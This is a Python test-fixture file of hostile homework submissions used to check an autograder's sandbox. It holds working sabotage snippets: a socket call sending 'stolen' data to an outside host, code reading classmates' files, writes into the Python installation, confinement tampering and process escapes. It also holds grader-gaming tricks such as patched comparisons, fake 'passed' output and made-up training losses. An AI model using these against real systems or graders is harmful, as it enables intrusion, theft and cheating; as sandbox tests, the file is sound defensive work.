"""Hostile submissions: one per threat, each a copy of ``reference/`` with the sabotage written in.

Each case names the checks it runs (to keep the suite fast), the verdict expected of every one of
them, and the check(s) it sabotages (which must get no credit). An attack whose success would earn
credit or do damage is written so that its success shows in a verdict (e.g. ``mse.forward`` answers
zeros when the attack worked), so a case fails when its attack gets through. ``levels`` restricts a
case to the sandbox levels that defend against it, with the reason in ``why_not``; the others run at
every level. docs/security.md lists the threats and their defences.
"""

from __future__ import annotations

import os
import sys
from dataclasses import dataclass, field

MSE_FORWARD = "        ctx.save_for_backward(yhat, y)\n        q = yhat.shape[0]\n"
MSE_BACKWARD = "        yhat, y = ctx.saved_tensors\n        q = yhat.shape[0]\n"
MSE_RETURN = "        return grad_yhat, -grad_yhat\n"
LINEAR_FORWARD = "        ctx.save_for_backward(X, W, b)\n        return X @ W + b\n"
HEAD = '"""AMAL'
MSE_CHECKS = ("load", "mse.forward", "mse.backward", "mse.gradcheck")
LINEAR_CHECKS = ("linear.forward", "linear.backward")


@dataclass(frozen=True)
class Case:
    name: str
    threat: str
    edits: dict
    expected: dict[str, str | tuple[str, ...]]  # check id -> status (or any of several)
    sabotaged: tuple[str, ...]  # no credit for these
    levels: tuple[str, ...] = ("bwrap", "unshare", "none")
    extra_files: dict[str, str] = field(default_factory=dict)
    why_not: str = ""  # why the levels left out cannot defend against it
    planted: dict[str, str] = field(default_factory=dict)  # files written beside the submission (a classmate's)
    forbidden: tuple[str, ...] = ()  # files that must not exist after the run (the test removes them)


def _in(anchor: str, code: str, after: bool = True) -> tuple[str, str]:
    return (anchor, anchor + code if after else code + anchor)


LINEAR_FORWARD_TOP = "        ctx.save_for_backward(X, W, b)\n"

# What an attacker who read the grader's source searches: the hand-in copies, the originals and the
# reports live under /tmp in a default set-up. Bounded, so that it cannot hang the case.
WALK_TMP = (
    "import os\n"
    "def _walk_tmp(limit=20000):\n"
    "    seen = 0\n"
    "    for folder, dirs, files in os.walk('/tmp'):\n"
    "        seen += 1\n"
    "        if seen > limit:\n"
    "            return\n"
    "        for name in files:\n"
    "            yield os.path.join(folder, name)\n"
    "def _others(suffix):\n"
    "    mine = os.path.realpath(os.getcwd()) + os.sep\n"
    "    for path in _walk_tmp():\n"
    "        if path.endswith(suffix) and not os.path.realpath(path).startswith(mine):\n"
    "            yield path\n")
SECRET = "CLASSMATE" + "-SECRET"  # never written whole in an attack's code, only in the classmate's file
READS_A_CLASSMATE = WALK_TMP + (
    "def _copy_classmate():\n"
    "    for path in _others('tp1.py'):\n"
    "        try:\n"
    "            if 'CLASSMATE' + '-SECRET' in open(path).read():\n"
    "                return True\n"
    "        except (OSError, UnicodeDecodeError):\n"
    "            pass\n"
    "    return False\n"
    "_ATTACK_WORKED = _copy_classmate()\n")
WRITES_THE_ORIGINAL = WALK_TMP + (
    "def _write_original():\n"
    "    own, done = open('tp1.py', 'rb').read(), False\n"
    "    for path in _others('tp1.py'):\n"
    "        try:\n"
    "            if open(path, 'rb').read() == own:\n"
    "                open(os.path.join(os.path.dirname(path), 'pwned.txt'), 'w').write('x')\n"
    "                done = True\n"
    "        except OSError:\n"
    "            pass\n"
    "    return done\n"
    "_ATTACK_WORKED = _write_original()\n")
MARKER = "grader-hostile-marker.txt"
WRITES_PYTHON = (
    "import os, sys\n"
    "def _write_python():\n"
    "    import torch\n"
    "    wrote = False\n"
    "    for folder in {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.dirname(torch.__file__)}:\n"
    f"        try:\n            with open(os.path.join(folder, {MARKER!r}), 'x') as fh:\n"
    "                fh.write('a lasting backdoor would go here')\n"
    "            wrote = True\n"
    "        except OSError:\n"
    "            pass\n"
    "    for path in (os.__file__, torch.__file__):\n"
    "        try:\n"
    "            open(path, 'r+b').close()  # opened for writing (nothing written: a test must not break Python)\n"
    "            wrote = True\n"
    "        except OSError:\n"
    "            pass\n"
    "    return wrote\n"
    "_ATTACK_WORKED = _write_python()\n")


def python_markers() -> tuple[str, ...]:
    """Where WRITES_PYTHON leaves its marker when it gets through (the test removes them)."""
    import torch

    folders = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.dirname(torch.__file__)}
    return tuple(sorted(os.path.join(f, MARKER) for f in folders))


# Append to confine.py (and child.py) a tail that makes every function a no-op, crash once, and see
# whether the restarted student process still runs confined (no capabilities, a memory limit).
REPLACES_CONFINEMENT = (
    "import os, resource\n"
    "_NOOP = ('\\ndef _noop(*a, **k):\\n    return None\\n'\n"
    "         'for _n, _v in list(globals().items()):\\n'\n"
    "         '    if callable(_v) and getattr(_v, \"__module__\", None) == __name__ and not _n.startswith(\"_\"):\\n'\n"
    "         '        globals()[_n] = _noop\\n')\n"
    "def _tamper():\n"
    "    for arg in open('/proc/self/cmdline', 'rb').read().decode().split('\\0'):\n"
    "        if arg.endswith(('child.py', 'zygote.py')):\n"
    "            for name in ('confine.py', 'child.py'):\n"
    "                try:\n"
    "                    with open(os.path.join(os.path.dirname(arg), name), 'a') as fh:\n"
    "                        fh.write(_NOOP if name == 'confine.py' else '\\n')\n"
    "                    open('tampered', 'w').close()\n"
    "                except OSError:\n"
    "                    pass\n"
    "def _powerful():\n"
    "    caps = [line for line in open('/proc/self/status') if line.startswith('CapEff')][0].split()[1]\n"
    "    return int(caps, 16) != 0 or resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY\n"
    "if not os.path.exists('crashed-once'):\n"
    "    _tamper()\n"
    "_ATTACK_WORKED = os.path.exists('tampered') or _powerful()\n")
# What an attacker checks first: who it is, what it can write, what it can see. Any answer other than
# the confined one counts as a way in.
PROBES_ITS_CONFINEMENT = (
    "import os, resource, sys\n"
    "def _status(key):\n"
    "    return [line.split()[1] for line in open('/proc/self/status') if line.startswith(key + ':')][0]\n"
    "def _writable(path):\n"
    "    try:\n"
    "        with open(os.path.join(path, 'grader-probe'), 'w'):\n"
    "            pass\n"
    "        os.remove(os.path.join(path, 'grader-probe'))\n"
    "        return True\n"
    "    except OSError:\n"
    "        return False\n"
    "_SEEN = {\n"
    "    'uid': os.getuid() != 0, 'no capabilities': int(_status('CapEff'), 16) == int(_status('CapBnd'), 16) == 0,\n"
    "    'no_new_privs': _status('NoNewPrivs') == '1', 'memory limit': resource.getrlimit(resource.RLIMIT_AS)[0] > 0\n"
    "    and resource.getrlimit(resource.RLIMIT_AS)[1] != resource.RLIM_INFINITY,\n"
    "    'killed first': open('/proc/self/oom_score_adj').read().strip() == '1000',\n"
    "    'private /tmp': _writable('/tmp') and _writable('/dev/shm') and len(os.listdir('/proc')) < 200,\n"
    "    'read-only elsewhere': not any(_writable(p) for p in ('/', '/usr', sys.prefix, sys.base_prefix,\n"
    "                                   os.path.dirname(os.getcwd()))),\n"
    "    'nothing else': not any(os.path.exists(p) for p in ('/home', '/etc/shadow', '/var', '/srv', '/opt', '/mnt')),\n"
    "}\n"
    "_ATTACK_WORKED = not all(_SEEN.values())\n"
    "if _ATTACK_WORKED:\n"
    "    print('confinement gaps:', [k for k, v in _SEEN.items() if not v], file=sys.stderr)\n")
# Leaves the process group the grader kills (setsid) and keeps its process alive once the grader is done
# with it (a thread that is not a daemon; os._exit, with which a warm launcher's child ends, made to wait
# too). Bounded: it outlives the grader by 10 s at most (2 minutes in all), so that a sandbox that lets it
# through leaves nothing behind for long, nor for the next test.
ESCAPES_THE_KILL = (
    "import os, threading, time\n"
    "_GIVE_UP, _DONE = time.monotonic() + 120, []\n"
    "def _linger():\n"
    "    while (threading.main_thread().is_alive() and not _DONE) and time.monotonic() < _GIVE_UP:\n"
    "        time.sleep(0.2)\n"
    "    end = min(time.monotonic() + 10, _GIVE_UP)\n"
    "    while time.monotonic() < end:\n"
    "        time.sleep(0.2)\n"
    "def _exit(*args):\n"
    "    _DONE.append(True)\n"
    "    _linger()\n"
    "try:\n"
    "    os.setsid()\n"
    "except OSError:  # already the leader of its session (a plain child process started in its own)\n"
    "    pass\n"
    "threading.Thread(target=_linger).start()\n"
    "os._exit = _exit\n")
# One real gradient step (one epoch; the first 512 rows for SGD), which is all that the descent probes
# look at, then a jump to the least-squares solution and made-up losses. No probe call is recognised by
# its epsilon: the graded call makes the same real first step.
MAIN = 'if __name__ == "__main__":'
CLOSED_FORM = (
    "def _closed_form(x, y):\n"
    "    x1 = torch.cat([x.double(), torch.ones(len(x), 1, dtype=torch.float64)], 1)\n"
    "    sol = torch.linalg.lstsq(x1, y.double()).solution\n"
    "    return sol[:-1].float(), sol[-1].float()\n\n\n")
ONE_STEP_MANUAL = CLOSED_FORM + (
    "_real_descente = descente\n\n\n"
    "def descente(x, y, epsilon=0.05, n_iter=100):\n"
    "    w, b, _ = _real_descente(x, y, epsilon, 1)\n"
    "    if n_iter > 1:\n"
    "        w, b = _closed_form(x, y)\n"
    "    return w, b, [1.0 / (i + 1) for i in range(n_iter)]\n\n\n")
ONE_STEP_LOOPS = CLOSED_FORM + (
    "def _then_jump(real, first_rows=None):\n"
    "    def loop(x_train, y_train, x_test, y_test, epsilon, n_epochs, *rest):\n"
    "        rows = len(x_train) if first_rows is None else min(first_rows, len(x_train))\n"
    "        w, b, _, _ = real(x_train[:rows], y_train[:rows], x_test, y_test, epsilon, 1, *rest)\n"
    "        if n_epochs > 1 or rows < len(x_train):\n"
    "            w, b = _closed_form(x_train, y_train)\n"
    "        made_up = [1.0 / (i + 1) for i in range(n_epochs)]\n"
    "        return w, b, made_up, made_up\n"
    "    return loop\n\n\n"
    "descente_batch = _then_jump(descente_batch)\n"
    "descente_minibatch = _then_jump(descente_minibatch)\n"
    "descente_stochastique = _then_jump(descente_stochastique, 512)\n\n\n")
TRAINING = ("descent.manual", "train.batch", "train.sgd", "train.minibatch")
# Folders nested thousands deep in its own copy (mkdir, chdir, repeat: no path is ever long), which the grader
# deletes after grading: Python 3.11's shutil.rmtree recurses once per level.
NESTS_DEEP = (
    "import os as _os\n"
    "_here = _os.open('.', _os.O_RDONLY)\n"
    "for _ in range(3000):\n"
    "    _os.mkdir('d')\n"
    "    _os.chdir('d')\n"
    "_os.fchdir(_here)\n"
    "_os.close(_here)\n")
CRASH_ONCE = ("        if not os.path.exists('crashed-once'):\n"
              "            open('crashed-once', 'w').close()\n"
              "            os._exit(1)\n")
ZEROS_IF_IT_WORKED = "        if _ATTACK_WORKED:\n            return torch.zeros(())\n"

WRONG_BACKWARD = (MSE_RETURN, "        return 3 * grad_yhat, grad_yhat\n")
PASS_LINEAR = {c: "passed" for c in LINEAR_CHECKS}
FAILED_OR_ERROR = ("failed", "error")

CASES = [
    Case("exit_at_import", "sys.exit(0) while importing",
         {"tp1": [_in(HEAD, "import sys; sys.exit(0)\n", after=False)]},
         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
    Case("os_exit_at_import", "os._exit(0) while importing",
         {"tp1": [_in(HEAD, "import os; os._exit(0)\n", after=False)]},
         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
    Case("systemexit_in_backward", "SystemExit raised inside backward",
         {"tp1": [_in(MSE_BACKWARD, "        raise SystemExit(0)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "error", "mse.gradcheck": "error",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("infinite_loop_in_backward", "an infinite loop in backward",
         {"tp1": [_in(MSE_BACKWARD, "        while True:\n            pass\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
         ("mse.backward",)),
    Case("sleep_ignoring_signals", "a sleep with SIGTERM, SIGINT and SIGALRM ignored",
         {"tp1": [_in(MSE_BACKWARD, "        import signal, time\n"
                                    "        for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT):\n"
                                    "            signal.signal(s, signal.SIG_IGN)\n"
                                    "        time.sleep(10_000)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
         ("mse.backward",)),
    Case("memory_bomb_in_forward", "allocating without bound in forward",
         {"tp1": [_in(MSE_FORWARD, "        hog = []\n        while True:\n"
                                   "            hog.append(bytearray(256 * 1024 * 1024))\n")]},
         {"load": "passed", "mse.forward": ("error", "timeout"), **PASS_LINEAR}, ("mse.forward",)),
    Case("segfault_in_forward", "a segmentation fault (ctypes.string_at(0)) in forward",
         {"tp1": [_in(MSE_FORWARD, "        import ctypes; ctypes.string_at(0)\n")]},
         {"load": "passed", "mse.forward": "error", **PASS_LINEAR}, ("mse.forward",)),
    Case("fork_burst", "a burst of forked children, some escaping with setsid, left running",
         {"tp1": [_in(MSE_FORWARD,
                      "        import os, time\n"
                      "        for i in range(40):\n"
                      "            try:\n"
                      "                pid = os.fork()\n"
                      "            except OSError:\n"
                      "                break\n"
                      "            if pid == 0:\n"
                      "                if i % 2:\n"
                      "                    os.setsid()\n"
                      "                time.sleep(10_000)\n"
                      "                os._exit(0)\n"
                      "        return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",),
         levels=("bwrap", "unshare"), why_not="at none, a child that called setsid outlives the kill"),
    Case("output_flood", "floods stdout and stderr with fake 'passed' lines and fake JSON reports",
         {"tp1": [_in(MSE_FORWARD,
                      "        import json, sys\n"
                      "        fake = json.dumps({'score': 20, 'max_score': 20, 'checks': [{'id': 'mse.forward',"
                      " 'status': 'passed'}]})\n"
                      "        for _ in range(20000):\n"
                      "            print('mse.forward passed 2/2 ✓ Score 20 / 20', fake)\n"
                      "            print('PASSED', fake, file=sys.stderr)\n"
                      "        return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",)),
    Case("output_past_the_cap", "writes more output than the file-size cap",
         {"tp1": [_in(MSE_FORWARD, "        import sys\n        line = 'x' * (1 << 20)\n"
                                   "        for _ in range(200):\n            print(line)\n")]},
         {"load": "passed", "mse.forward": ("error", "failed"), **PASS_LINEAR}, ("mse.forward",)),
    Case("patched_comparisons", "patches gradcheck, allclose, assert_close, numpy.allclose, with a wrong backward",
         {"tp1": [_in(HEAD, "import numpy, torch, torch.testing, torch.autograd\n"
                            "torch.autograd.gradcheck = lambda *a, **k: True\n"
                            "torch.autograd.gradcheck.gradcheck = lambda *a, **k: True\n"
                            "torch.allclose = lambda *a, **k: True\n"
                            "torch.equal = lambda *a, **k: True\n"
                            "torch.testing.assert_close = lambda *a, **k: None\n"
                            "numpy.allclose = lambda *a, **k: True\n"
                            "torch.Tensor.__eq__ = lambda *a, **k: True\n", after=False),
                  WRONG_BACKWARD]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("lying_tensor", "a tensor subclass whose __eq__, allclose and equal always say yes, from a wrong backward",
         {"tp1": [_in(HEAD, "import torch\n"
                            "class Liar(torch.Tensor):\n"
                            "    def __eq__(self, other): return True\n"
                            "    def allclose(self, *a, **k): return True\n"
                            "    def equal(self, *a, **k): return True\n"
                            "    def __bool__(self): return True\n", after=False),
                  (MSE_RETURN, "        return (3 * grad_yhat).as_subclass(Liar), grad_yhat.as_subclass(Liar)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("vandal", "deletes and overwrites files in its folder and every JSON file it can find",
         {"tp1": [_in(HEAD,
                      "import glob, json, os\n"
                      "def _vandalise():\n"
                      "    fake = json.dumps({'score': 20, 'max_score': 20})\n"
                      # the folder of this test session (/tmp/grader-tests-…): where a sandbox that failed would
                      # let it write (the canary is there), and nothing else of the machine, ever
                      "    session = os.sep.join(os.getcwd().split(os.sep)[:3]) + os.sep\n"
                      "    for pattern in ('/tmp/**/*.json', '/root/**/*.json', '/work/**/*.json', '../**/*.json',"
                      " os.path.expanduser('~/**/*.json'), '**/*.json'):\n"
                      "        for path in glob.glob(pattern, recursive=True)[:500]:\n"
                      "            if not os.path.realpath(path).startswith(session):\n"
                      "                continue\n"
                      "            try:\n"
                      "                open(path, 'w').write(fake)\n"
                      "            except OSError:\n"
                      "                pass\n"
                      "    for name in os.listdir('.'):\n"
                      "        if name.endswith(('.txt', '.md', '.json')):\n"
                      "            os.remove(name)\n"
                      "    open('tp1_descente.py', 'a').write('\\nraise SystemExit(1)\\n')\n"
                      "    open('report.json', 'w').write(fake)\n"
                      "_vandalise()\n", after=False)]},
         {"load": "failed", "mse.forward": "passed", **PASS_LINEAR}, ("load",), levels=("bwrap", "unshare"),
         extra_files={"notes.txt": "my notes\n", "results.json": '{"mine": true}\n'},
         why_not="at none, the student's code can write every file its uid can"),
    Case("shadowing_modules", "ships torch.py, numpy.py, sitecustomize.py and conftest.py that sabotage",
         {}, {"load": "passed", "mse.forward": "passed", "mse.backward": "passed", **PASS_LINEAR}, (),
         extra_files={"torch.py": "raise SystemExit('shadowed torch')\n",
                      "numpy.py": "raise SystemExit('shadowed numpy')\n",
                      "sitecustomize.py": "import os\nos._exit(7)\n",
                      "usercustomize.py": "import os\nos._exit(7)\n",
                      "conftest.py": "import os\nos._exit(7)\n"}),
    Case("reads_the_reference", "reads the reference solution or the grader's formulas from its installation",
         {"tp1": [_in(HEAD,
                      "import os, sys\n"
                      "def _steal():\n"
                      "    try:\n"
                      "        import grader.checks.expected as e\n"
                      "        return e\n"
                      "    except Exception:\n"
                      "        pass\n"
                      "    here = os.path.abspath(sys.executable)\n"
                      "    while here != os.path.dirname(here):\n"
                      "        here = os.path.dirname(here)\n"
                      "        for rel in ('reference/tp1.py', 'grader/checks/expected.py', 'tests/conftest.py'):\n"
                      "            try:\n"
                      "                return open(os.path.join(here, rel)).read()\n"
                      "            except OSError:\n"
                      "                pass\n"
                      "    return None\n"
                      "_STOLEN = _steal()\n", after=False),
                  (MSE_FORWARD, MSE_FORWARD + "        if _STOLEN is None:\n            return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can read every file its uid can"),
    Case("network", "opens network connections (a server of the test and the internet)",
         {"tp1": [_in(HEAD,
                      "import os, socket\n"
                      "def _call_home():\n"
                      "    port = int(open(os.path.join(os.path.dirname(__file__), 'port.txt')).read())\n"
                      "    for host in ('127.0.0.1', '1.1.1.1'):\n"
                      "        try:\n"
                      "            s = socket.create_connection((host, port if host == '127.0.0.1' else 80), timeout=2)\n"
                      "            s.sendall(b'stolen')\n"
                      "            s.close()\n"
                      "            return True\n"
                      "        except OSError:\n"
                      "            pass\n"
                      "    return False\n"
                      "_ONLINE = _call_home()\n", after=False),
                  (MSE_FORWARD, MSE_FORWARD + "        if not _ONLINE:\n            return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none, there is no network namespace"),
    Case("reads_a_classmates_copy", "walks /tmp for a classmate's hand-in and copies it",
         {"tp1": [_in(HEAD, READS_A_CLASSMATE, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can read every file its uid can",
         planted={"classmate/tp1.py": f"# {SECRET}: the classmate's work\nimport torch\n"}),
    Case("writes_into_the_original", "finds its original hand-in folder under /tmp and writes into it",
         {"tp1": [_in(HEAD, WRITES_THE_ORIGINAL, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can write every file its uid can"),
    Case("writes_into_python", "opens the virtualenv and the standard library for writing (a lasting backdoor)",
         {"tp1": [_in(HEAD, WRITES_PYTHON, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can write every file its uid can (as root: the installation)",
         forbidden=python_markers()),
    Case("replaces_the_confinement", "overwrites confine.py, crashes, and runs unconfined once restarted",
         {"tp1": [_in(HEAD, REPLACES_CONFINEMENT, after=False), (MSE_FORWARD, MSE_FORWARD + CRASH_ONCE),
                  (LINEAR_FORWARD_TOP, LINEAR_FORWARD_TOP + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "error", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none as root, the student's code can change the grader's own installation"),
    Case("probes_its_confinement", "looks for a way in: root, capabilities, no memory limit, a writable or "
         "visible file outside its copy and /tmp",
         {"tp1": [_in(HEAD, PROBES_ITS_CONFINEMENT, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the whole filesystem is there (and, as root, writable)"),
    Case("escapes_the_kill", "leaves the grader's process group with setsid and stays alive after grading",
         {"tp1": [_in(HEAD, ESCAPES_THE_KILL, after=False)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, ()),
    Case("backward_without_context", "gets the context point with backwards that return constants or None",
         {"tp1": [(MSE_RETURN, "        return torch.zeros_like(yhat), torch.zeros_like(y)\n"),
                  ("        return grad_X, grad_W, grad_b\n", "        return None, None, None\n")]},
         {"load": "passed", "context.isolation": "failed"}, ("context.isolation",)),
    Case("one_real_step_then_closed_form", "descends for the one step the probes look at, then jumps to "
         "the least-squares solution with made-up losses",
         {"tp1_descente": [_in(MAIN, ONE_STEP_MANUAL, after=False)],
          "tp1_autograd": [_in(MAIN, ONE_STEP_LOOPS, after=False)]},
         {"load": "passed", **{c: "failed" for c in TRAINING}}, TRAINING),
    Case("apply_is_not_the_function", "wrong backwards, and .apply replaced by torch's own autograd for gradcheck",
         {"tp1": [WRONG_BACKWARD, ("grad_W = X.T @ grad_output", "grad_W = 2 * X.T @ grad_output"),
                  ("mse = MSE.apply", "MSE.apply = staticmethod(lambda yhat, y: ((yhat - y) ** 2).sum() / len(yhat))\n"
                                      "Linear.apply = staticmethod(lambda X, W, b: X @ W + b)\nmse = MSE.apply")]},
         {"load": "passed", "mse.backward": "failed", "mse.gradcheck": "failed", "linear.backward": "failed",
          "linear.gradcheck": "failed"}, ("mse.gradcheck", "linear.gradcheck")),
    Case("nests_folders_deep", "nests folders 3,000 deep in its copy, which the grader removes after grading",
         {"tp1": [_in(HEAD, NESTS_DEEP, after=False)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, ()),
    Case("late_fixing_thread", "a background thread that fixes wrong gradients after backward returns",
         {"tp1": [(MSE_RETURN,
                   "        import threading, time\n"
                   "        wrong = 3 * grad_yhat.detach().clone()\n"
                   "        right = grad_yhat.detach().clone()\n"
                   "        def fix():\n"
                   "            time.sleep(0.05)\n"
                   "            wrong.copy_(right)\n"
                   "        threading.Thread(target=fix, daemon=True).start()\n"
                   "        return wrong, -right\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", **PASS_LINEAR},
         ("mse.backward",)),
]
